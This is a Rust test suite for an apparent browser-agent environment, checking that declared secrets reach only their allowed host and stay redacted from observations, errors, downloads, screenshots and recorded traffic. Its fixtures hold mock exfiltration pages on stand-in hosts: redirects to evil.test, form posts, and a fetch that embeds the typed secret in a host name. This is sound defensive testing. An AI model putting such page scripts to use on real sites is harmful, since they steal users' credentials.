//! Declared secrets: they reach the page that they are for, and nothing that comes back.

use std::collections::BTreeMap;
use std::ffi::OsString;
use std::path::Path;
use std::sync::Arc;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use furrow_env::{
    ArchiveLimits, ArchiveMode, ChromiumPool, EnvConfig, EnvFile, Environment, EnvironmentError,
    EnvironmentFactory, FileRoot, SecretFile, SiteServer, StaticSite, WorkerSecrets,
};
use furrow_rollout::*;
use serde_json::{Value, json};

use crate::fixture::{act, assignment, at, click, config, state, task};

/// A value with characters that are escaped everywhere, and one that can be part of a host name.
const HARD: &str = "Hun'ter & \"two\"/<3>?";
const NAME: &str = "Hunter2secret";
/// Two values of one length and other letters, and one that no task may use.
const WIDE: &str = "WWWWWWWWMMMM";
const THIN: &str = "iiiiiiiillll";
const OTHERS: &str = "not-for-this-task";

const SECRETS: [(&str, &str); 5] =
    [("HARD", HARD), ("NAME", NAME), ("WIDE", WIDE), ("THIN", THIN), ("OTHERS", OTHERS)];

/// Pages of two sites, and browsers of a worker with secrets for one of them.
struct SecretPages {
    pool: ChromiumPool,
    folder: tempfile::TempDir,
}

fn declare(file: &mut EnvFile) {
    let secret = |name: &str| SecretFile { variable: name.into(), hosts: vec!["page.test".into()] };
    file.secrets =
        SECRETS.iter().map(|(name, _)| ((*name).to_owned(), secret(name))).collect::<BTreeMap<_, _>>();
}

fn with_values(mut config: EnvConfig) -> EnvConfig {
    let value = |variable: &str| {
        SECRETS.iter().find(|(name, _)| *name == variable).map(|(_, value)| OsString::from(value))
    };
    config.browser.secrets = Arc::new(WorkerSecrets::read_from(&config.secrets, value).unwrap());
    config
}

fn sites(folder: &Path) -> Vec<StaticSite> {
    let site = |host: &str| StaticSite { host: host.into(), root: FileRoot::Folder(folder.to_owned()) };
    ["page.test", "evil.test"].map(site).into()
}

impl SecretPages {
    async fn start() -> Self {
        Self::start_with(|_| {}, |_| {}).await
    }

    async fn start_with(change: impl FnOnce(&mut EnvFile), after: impl FnOnce(&mut EnvConfig)) -> Self {
        let folder = tempfile::tempdir().unwrap();
        let mut config = with_values(config(|file| {
            declare(file);
            change(file);
        }));
        after(&mut config);
        let served = Arc::new(SiteServer::open(&sites(folder.path()), config.sites).unwrap());
        let pool = ChromiumPool::start(config.browser, served, config.egress).await;
        Self { pool: pool.unwrap_or_else(|error| panic!("{error}")), folder }
    }

    /// Writes a page and returns its path. Files of one name are cached, so each has its own.
    fn write(&self, body: &str) -> String {
        let html =
            format!("<!doctype html><meta charset=utf-8><title>test</title><body style='margin:0'>{body}");
        let count = std::fs::read_dir(self.folder.path()).unwrap().count();
        std::fs::write(self.folder.path().join(format!("{count}.html")), html).unwrap();
        format!("{count}.html")
    }

    fn write_as(&self, name: &str, body: &str) {
        let path = self.folder.path().join(self.write(body));
        std::fs::rename(path, self.folder.path().join(name)).unwrap();
    }

    async fn open(&self, url: &str, change: impl FnOnce(&mut Assignment)) -> Box<dyn Environment> {
        let mut assignment = assignment(task(url));
        assignment.task.allow_hosts = vec!["page.test".into(), "evil.test".into()];
        assignment.secrets = ["HARD", "NAME", "WIDE", "THIN"].map(str::to_owned).into();
        change(&mut assignment);
        let mut environment = self.pool.open(&assignment).await.unwrap();
        environment.begin().await.unwrap();
        environment
    }

    async fn page(&self, body: &str) -> Box<dyn Environment> {
        let path = self.write(body);
        self.open(&format!("http://page.test/{path}"), |_| {}).await
    }
}

fn write(content: &str) -> Action {
    Action::Write { into: Some(at(100.0, 20.0)), content: content.into(), press_enter: false }
}

/// What a page makes of a text to show that it got the text and no other: FNV-1a.
const FNV: &str = "const fnv = (text) => { let sum = 0x811c9dc5; for (const unit of text) sum = Math.imul(sum ^ unit.codePointAt(0), 0x01000193) >>> 0; return sum };";

fn fnv(text: &str) -> u32 {
    text.chars().fold(0x811c_9dc5, |sum, unit| (sum ^ unit as u32).wrapping_mul(0x0100_0193))
}

/// Forms of a value that an independent search knows.
fn forms(value: &str) -> Vec<String> {
    let percent: String = value.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let escaped: String = value
        .bytes()
        .map(|byte| match byte.is_ascii_alphanumeric() {
            true => char::from(byte).to_string(),
            false => format!("%{byte:02x}"),
        })
        .collect();
    let quoted = Value::from(value).to_string();
    let base64 = STANDARD.encode(value);
    let all = [value, &percent, &escaped, quoted.trim_matches('"'), base64.trim_end_matches('=')];
    all.iter().map(|form| form.to_lowercase()).collect()
}

#[track_caller]
fn assert_clean(what: &str, text: &str) {
    let text = text.to_lowercase();
    for (name, value) in SECRETS {
        for form in forms(value) {
            assert!(!text.contains(&form), "{what} contains {name} as {form}: {text}");
        }
    }
}

/// A field that spreads whatever is typed into it.
const SPREADS: &str = "<script>state = { n: 0 };
const spread = (value) => {
  state = { n: state.n + 1, sum: fnv(value), value, again: JSON.stringify({ value }), [value]: 1,
    base: btoa(unescape(encodeURIComponent('user:' + value))), html: echo.innerHTML };
  document.title = 'typed ' + value;
  echo.textContent = 'You typed ' + value;
  echo.setAttribute('aria-label', value);
  history.replaceState(null, '', '?k=' + encodeURIComponent(value) + '#' + encodeURI(value));
  console.error('typed', value);
};
document.addEventListener('input', (event) => {
  const field = event.composedPath()[0];
  spread(field.value ?? field.textContent);
});</script><p id=echo style='margin-top:60px'></p>
<button style='position:absolute;left:0;top:200px;width:100px;height:40px' onclick='alert(state.value)'>alert</button>
<a id=a style='position:absolute;left:0;top:260px;width:100px;height:40px' href='data:text/plain,x' onclick='a.download = state.value + \".txt\"; a.href = \"data:text/plain,\" + encodeURIComponent(state.value)'>save</a>
<button style='position:absolute;left:0;top:320px;width:100px;height:40px' onclick='setTimeout(() => { throw new Error(state.value) })'>throw</button>";

const BOX: &str = "position:absolute;left:10px;top:5px;width:300px;height:30px";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_reaches_its_page_and_nothing_else() {
    let pages = SecretPages::start_with(
        |file| (file.axtree, file.marks) = (true, true),
        |config| config.browser.page_errors = true,
    )
    .await;
    let shadow = format!(
        "<div id=host style='{BOX}'></div><script>host.attachShadow({{mode:'open'}}).innerHTML = '<input style=\"width:300px;height:25px\">'</script>"
    );
    for field in [
        format!("<input type=password style='{BOX}'>"),
        format!("<input style='{BOX}'>"),
        format!("<textarea style='{BOX}'></textarea>"),
        format!("<div contenteditable style='{BOX}'></div>"),
        shadow,
    ] {
        for (name, value) in [("HARD", HARD), ("NAME", NAME)] {
            let path = pages.write(&format!("<script>{FNV}</script>{field}{SPREADS}"));
            let mut page = pages
                .open(&format!("http://page.test/{path}"), |assignment| {
                    assignment.files.download_bytes_max = Some(1 << 20);
                })
                .await;
            let outcome = act(&mut page, write(&format!("{{{{{name}}}}}"))).await;
            assert_eq!(outcome.name, OutcomeName::Ok, "{field}: {outcome:?}");
            let probed = page.probe().await.unwrap().unwrap();
            assert_clean("the probe", &probed);
            let state: Value = serde_json::from_str(&probed).unwrap();
            // The page's own account that it got the value itself.
            assert_eq!((&state["n"], &state["sum"]), (&json!(1), &json!(fnv(value))), "{field}: {state}");
            assert_eq!(state["value"], format!("{{{{{name}}}}}"));
            let observation = page.observe().await.unwrap();
            assert_clean("the observation", &format!("{observation:?}"));
            assert_eq!(observation.title, format!("typed {{{{{name}}}}}"));
            assert!(observation.url.contains(&format!("?k={{{{{name}}}}}#")), "{}", observation.url);
            assert!(observation.axtree.unwrap().contains(&format!("{{{{{name}}}}}")));
            let outcome = act(&mut page, click(50.0, 220.0)).await;
            assert_eq!(outcome.detail, format!("a dialog was dismissed: {{{{{name}}}}}"));
            let mut outcome = act(&mut page, click(50.0, 280.0)).await;
            // A slow machine begins a download after the page has settled.
            for _ in 0..20 {
                if outcome.name == OutcomeName::Downloaded {
                    break;
                }
                outcome = act(&mut page, Action::Wait { seconds: 0 }).await;
            }
            assert_eq!(outcome.name, OutcomeName::Downloaded, "{outcome:?}");
            assert_clean("the outcome of a download", &outcome.detail);
            act(&mut page, click(50.0, 340.0)).await;
            let errors = page.page_errors().await;
            assert_clean("the errors of the page", &format!("{errors:?}"));
            assert!(errors.iter().any(|error| error.text.contains(&format!("{{{{{name}}}}}"))), "{errors:?}");
            let evidence = page.evidence().await.unwrap();
            assert_clean("the evidence", &format!("{evidence:?}"));
            let downloads = page.downloads().await.unwrap();
            assert_clean("the downloads", &format!("{downloads:?}"));
            assert_eq!(downloads.files[0].text(), Some(format!("{{{{{name}}}}}").as_str()));
            page.close().await;
        }
    }
    pages.pool.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_that_is_not_for_it_gets_nothing() {
    let pages = SecretPages::start().await;
    let field = format!(
        "<script>state = {{ typed: '' }}; document.addEventListener('input', (event) => {{ state.typed += event.target.value }});
        document.addEventListener('keydown', (event) => {{ state.typed += event.key }})</script><input style='{BOX}'>"
    );
    pages.write_as("form.html", &field);
    pages.write_as(
        "framed.html",
        &format!("<iframe src='http://evil.test/form.html' style='{BOX};border:0'></iframe>"),
    );
    pages.write_as("plain.html", &format!("<button style='{BOX}'>no field</button>"));
    pages.write_as("short.html", &format!("<input maxlength=8 style='{BOX}'>"));
    pages.write_as("number.html", &format!("<input type=number style='{BOX}'>"));
    let refused = async |url: &str, action: Action, want: &str| {
        let mut page = pages.open(url, |_| {}).await;
        let outcome = act(&mut page, action).await;
        assert_eq!(outcome.name, OutcomeName::InvalidAction, "{url}: {outcome:?}");
        assert!(outcome.detail.contains(want), "{url}: {outcome:?}");
        let state = state(&mut page).await;
        assert!(state["typed"].as_str().unwrap_or_default().is_empty(), "{url}: {state}");
        assert_clean("the page", &format!("{state} {:?}", page.observe().await.unwrap()));
        page.close().await;
    };
    let away = "{{NAME}} is not for pages of evil.test; nothing was typed";
    refused("http://evil.test/form.html", write("{{NAME}}"), away).await;
    let unselected = Action::Write { into: None, content: "{{NAME}}".into(), press_enter: true };
    refused("http://evil.test/form.html", unselected, away).await;
    // An action before it in the same step leads to the other page.
    let goto = Action::Goto { url: "http://evil.test/form.html".into() };
    let several = Action::of_several(vec![goto, write("{{NAME}}")]).unwrap();
    refused("http://page.test/form.html", several, away).await;
    // The browser may not have moved the focus into the frame yet.
    refused("http://page.test/framed.html", write("{{NAME}}"), "nothing was typed").await;
    refused("http://page.test/plain.html", write("{{NAME}}"), "no text field has the focus").await;
    refused("http://page.test/short.html", write("{{NAME}}"), "too short for the secret").await;
    refused("http://page.test/number.html", write("{{NAME}}"), "takes no text such as a secret").await;
    pages.pool.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_that_leaves_between_check_and_input_takes_nothing_along() {
    let pages = SecretPages::start().await;
    pages.write_as(
        "evil.html",
        &format!("<script>state = {{ typed: '' }}; document.addEventListener('input', (event) => {{ state.typed += event.target.value }})</script><input id=f style='{BOX}'><script>f.focus()</script>"),
    );
    // It leaves as soon as it is clicked, and again while it is typed into.
    let leaving = format!(
        "<input id=f style='{BOX}'><script>const leave = () => location.assign('http://evil.test/evil.html'); f.onfocus = f.onbeforeinput = leave</script>"
    );
    pages.write_as("leaving.html", &leaving);
    for attempt in 0..10 {
        let mut page = pages.open("http://page.test/leaving.html", |_| {}).await;
        act(&mut page, write("{{NAME}}")).await;
        act(&mut page, write("{{NAME}}")).await;
        let observation = page.observe().await.unwrap();
        let state = state(&mut page).await;
        if observation.url.starts_with("http://evil.test/") {
            assert_eq!(state["typed"], "", "attempt {attempt}");
        }
        page.close().await;
    }
    pages.pool.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_is_not_declared_for_the_task_is_typed_and_recorded_as_it_is() {
    let pages = SecretPages::start().await;
    let body = format!("<script>{FNV}</script><input style='{BOX}'>{SPREADS}");
    for text in ["hunter2 undeclared", "{{OTHERS}}", "{{NONE}}", "{{name}}", "{{"] {
        let mut page = pages.page(&body).await;
        act(&mut page, write(text)).await;
        let state = state(&mut page).await;
        assert_eq!((&state["value"], &state["sum"]), (&json!(text), &json!(fnv(text))));
        assert_eq!(page.observe().await.unwrap().title, format!("typed {text}"));
        page.close().await;
    }
    // A value that a page has from elsewhere is found, too, whichever task it is for.
    let mut page = pages.page(&format!("<p>{OTHERS}</p><script>document.title = '{OTHERS}'</script>")).await;
    act(&mut page, Action::Wait { seconds: 0 }).await;
    assert_eq!(page.observe().await.unwrap().title, "{{OTHERS}}");
    page.close().await;
    let mut assignment = assignment(task("http://page.test/0.html"));
    assignment.secrets = vec!["GONE".into()];
    let error = pages.pool.open(&assignment).await.err().unwrap();
    assert_eq!(
        error,
        EnvironmentError::Failed(
            "the task's secret GONE is not declared in the job of this worker; add [env.secrets.GONE]".into()
        )
    );
    pages.pool.close().await;
}

fn pixels(observation: &Observation) -> image::RgbImage {
    image::load_from_memory(&observation.screenshot.bytes).unwrap().into_rgb8()
}

/// Pages that show what is typed, each in another way, and whether their picture is shown at all.
fn showing() -> Vec<(&'static str, String, bool)> {
    let field = format!("<input id=f style='{BOX}'>");
    let big = "style='position:absolute;top:60px;left:0;font-size:30px;white-space:nowrap'";
    let on_input = |script: &str| format!("<script>f.oninput = () => {{ {script} }}</script>");
    let page = |shown: &str, script: &str| format!("{field}{shown}{}", on_input(script));
    vec![
        ("the field", field.clone(), true),
        ("a textarea", format!("<textarea style='{BOX}'></textarea>"), true),
        ("an editable text", format!("<div contenteditable style='{BOX};font-size:25px'></div>"), true),
        (
            "a password that is shown",
            format!("<input type=password id=f style='{BOX}'>{}", on_input("f.type = 'text'")),
            true,
        ),
        ("a text", page(&format!("<p {big} id=p></p>"), "p.textContent = 'You typed ' + f.value"), true),
        (
            "a text of parts",
            page(
                &format!("<p {big} id=p></p>"),
                "p.innerHTML = [...f.value].map((c) => `<b>${c}</b>`).join('')",
            ),
            true,
        ),
        (
            "a text with a rule against dots",
            page(
                &format!("<style>p {{ -webkit-text-security: none !important }}</style><p {big} id=p></p>"),
                "p.textContent = f.value",
            ),
            true,
        ),
        ("another field", page(&format!("<input {big} id=g>"), "g.value = 'is ' + f.value"), true),
        ("a hint in a field", page(&format!("<input {big} id=g>"), "g.placeholder = f.value"), true),
        ("a button", page(&format!("<input type=button {big} id=g>"), "g.value = f.value"), true),
        ("a list", page(&format!("<select {big} id=g></select>"), "g.add(new Option(f.value))"), false),
        (
            "a shadow root",
            page(
                &format!("<p {big} id=p></p>"),
                "(p.shadowRoot ?? p.attachShadow({mode:'open'})).textContent = f.value",
            ),
            true,
        ),
        (
            "a frame",
            page(&format!("<iframe {big} id=g></iframe>"), "g.contentDocument.body.textContent = f.value"),
            true,
        ),
        (
            "capital letters",
            page(&format!("<p {big} id=p></p>"), "p.textContent = f.value.toUpperCase()"),
            true,
        ),
        (
            "a drawing",
            page(
                &format!("<svg {big} width=400 height=40><text id=t y=30></text></svg>"),
                "t.textContent = f.value",
            ),
            true,
        ),
        (
            "a text that is always new",
            page(
                &format!("<p {big} id=p></p>"),
                "setInterval(() => { p.remove(); document.body.append(p = Object.assign(document.createElement('p'), { textContent: f.value, style: 'margin-top:99px' })) }, 1)",
            ),
            false,
        ),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pictures_do_not_differ_between_two_secrets() {
    let pages = SecretPages::start().await;
    for clock in [PageClock::Real, PageClock::Virtual { step_millis: 100 }] {
        for (what, body, is_shown) in showing() {
            let url = format!("http://page.test/{}", pages.write(&body));
            let mut pictures = Vec::new();
            for text in ["{{WIDE}}", "{{THIN}}", THIN_CONTROL] {
                let mut page = pages.open(&url, |assignment| assignment.task.clock = clock).await;
                let before = page.observe().await.unwrap();
                let outcome = act(&mut page, write(text)).await;
                let is_done = matches!(outcome.name, OutcomeName::Ok | OutcomeName::NotSettled);
                assert!(is_done, "{what}: {outcome:?}");
                let observation = page.observe().await.unwrap();
                assert_ne!(pixels(&before), pixels(&observation), "{what}: {text} changed nothing");
                let evidence = page.evidence().await.unwrap().screenshot.unwrap();
                let last = image::load_from_memory(&evidence).unwrap().into_rgb8();
                pictures.push((pixels(&observation), last));
                page.close().await;
            }
            keep(what, &pictures);
            let is_grey = pictures[0].0.pixels().all(|pixel| pixel.0 == [128; 3]);
            // The last page stands still under a virtual clock.
            let is_shown = is_shown || (what == "a text that is always new" && clock != PageClock::Real);
            assert_eq!(is_grey, !is_shown, "{what} with {clock:?}");
            assert!(
                pictures[0] == pictures[1],
                "{what} with {clock:?}: the pictures show which secret it is"
            );
            assert!(pictures[0].0 != pictures[2].0, "{what}: a text that is no secret is shown");
        }
    }
    pages.pool.close().await;
}

/// As long as the secrets, and none of them.
const THIN_CONTROL: &str = "lliilliillii";

fn keep(what: &str, pictures: &[(image::RgbImage, image::RgbImage)]) {
    let Some(folder) = std::env::var_os("FURROW_KEEP") else { return };
    for (index, (picture, _)) in pictures.iter().enumerate() {
        picture.save(Path::new(&folder).join(format!("{}-{index}.png", what.replace(' ', "-")))).unwrap();
    }
}

/// A site that sends what is typed in every form, and answers with the value.
fn write_sending_site(www: &Path, value: &str) {
    let page = format!(
        "<!doctype html><title>x</title><body style='margin:0'><form action='/done.html'><input name=k style='{BOX}'></form>
        <script>window.state = {{}}; document.querySelector('input').oninput = async (event) => {{
          const v = event.target.value;
          const get = async (...asked) => (await fetch(...asked)).status;
          state.get = await get('/data.json?k=' + encodeURIComponent(v) + '&token=1');
          state.form = await get('/data.json', {{ method: 'POST', body: new URLSearchParams({{ v }}) }});
          state.json = await get('/data.json', {{ method: 'POST', body: JSON.stringify({{ v, base: btoa(v) }}) }});
          state.whole = true;
        }}</script>"
    );
    std::fs::write(www.join("index.html"), page).unwrap();
    std::fs::write(www.join("data.json"), json!({ "echo": value }).to_string()).unwrap();
    std::fs::write(www.join("done.html"), format!("<title>done {value}</title>{value}")).unwrap();
}

/// Types the secret and sends the form; returns title and address of the last page.
async fn visit(pool: &ChromiumPool, name: &str) -> (String, String) {
    let mut assignment = assignment(task("http://page.test/"));
    assignment.secrets = vec![name.into()];
    let mut page = pool.open(&assignment).await.unwrap();
    page.begin().await.unwrap();
    let outcome = act(&mut page, write(&format!("{{{{{name}}}}}"))).await;
    assert_eq!(outcome.name, OutcomeName::Ok, "{outcome:?}");
    let mut known = state(&mut page).await;
    for _ in 0..100 {
        if known["whole"] == true {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        known = state(&mut page).await;
    }
    assert_eq!(known, json!({"get": 200, "form": 405, "json": 405, "whole": true}), "{name}");
    act(&mut page, Action::press("Enter")).await;
    act(&mut page, Action::Wait { seconds: 1 }).await;
    let observation = page.observe().await.unwrap();
    assert_eq!(page.unrecorded(), Vec::<String>::new(), "{name}");
    page.close().await;
    (observation.title, observation.url)
}

/// Checks every file below a folder; returns their number.
fn check_folder(folder: &Path) -> usize {
    let check = |path: std::path::PathBuf| match path.is_dir() {
        true => check_folder(&path),
        false => {
            let content = std::fs::read(&path).unwrap();
            assert_clean(&path.display().to_string(), &String::from_utf8_lossy(&content));
            1
        }
    };
    std::fs::read_dir(folder).unwrap().map(|entry| check(entry.unwrap().path())).sum()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn recorded_traffic_holds_placeholders_and_is_found_by_them() {
    let limits =
        ArchiveLimits { response_bytes_max: 100_000, trajectory_bytes_max: 1 << 20, bytes_max: None };
    for (name, value) in [("NAME", NAME), ("HARD", HARD)] {
        let home = tempfile::tempdir().unwrap();
        let archive = home.path().join("archive");
        let www = home.path().join("www");
        std::fs::create_dir(&www).unwrap();
        write_sending_site(&www, value);
        let mut last = Vec::new();
        for is_replay in [false, true] {
            let config = config(declare);
            let declared = config.secrets.clone();
            let mut config = with_values(config);
            let (sites, mode) = match is_replay {
                false => (sites(&www), ArchiveMode::Record { folder: archive.clone(), limits }),
                true => {
                    config.browser.secrets = Arc::new(WorkerSecrets::placeholders(&declared));
                    (vec![], ArchiveMode::Replay { folder: archive.clone() })
                }
            };
            let served = Arc::new(SiteServer::open(&sites, config.sites).unwrap());
            let started = ChromiumPool::start_archived(config.browser, served, config.egress, mode).await;
            let pool = started.unwrap();
            last.push(visit(&pool, name).await);
            pool.close().await;
        }
        assert_eq!(last[0], last[1]);
        assert_eq!(last[0].0, format!("done {{{{{name}}}}}"));
        assert_eq!(last[0].1, format!("http://page.test/done.html?k={{{{{name}}}}}"));
        let files = check_folder(&archive);
        assert!(files >= 4, "{files}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_host_with_a_value_in_it_is_reported_without_it() {
    let pages = SecretPages::start_with(|_| {}, |config| config.browser.page_errors = true).await;
    let body = format!(
        "<input id=f style='{BOX}'><script>f.oninput = () => {{ fetch('http://' + f.value + '.elsewhere.test/').catch(() => {{}}) }}</script>"
    );
    let mut page = pages.page(&body).await;
    act(&mut page, write("{{NAME}}")).await;
    let errors = page.page_errors().await;
    assert_clean("the errors", &format!("{errors:?}"));
    assert!(errors.iter().any(|error| error.text.contains("{{NAME}}.elsewhere.test")), "{errors:?}");
    page.close().await;
    pages.pool.close().await;
}
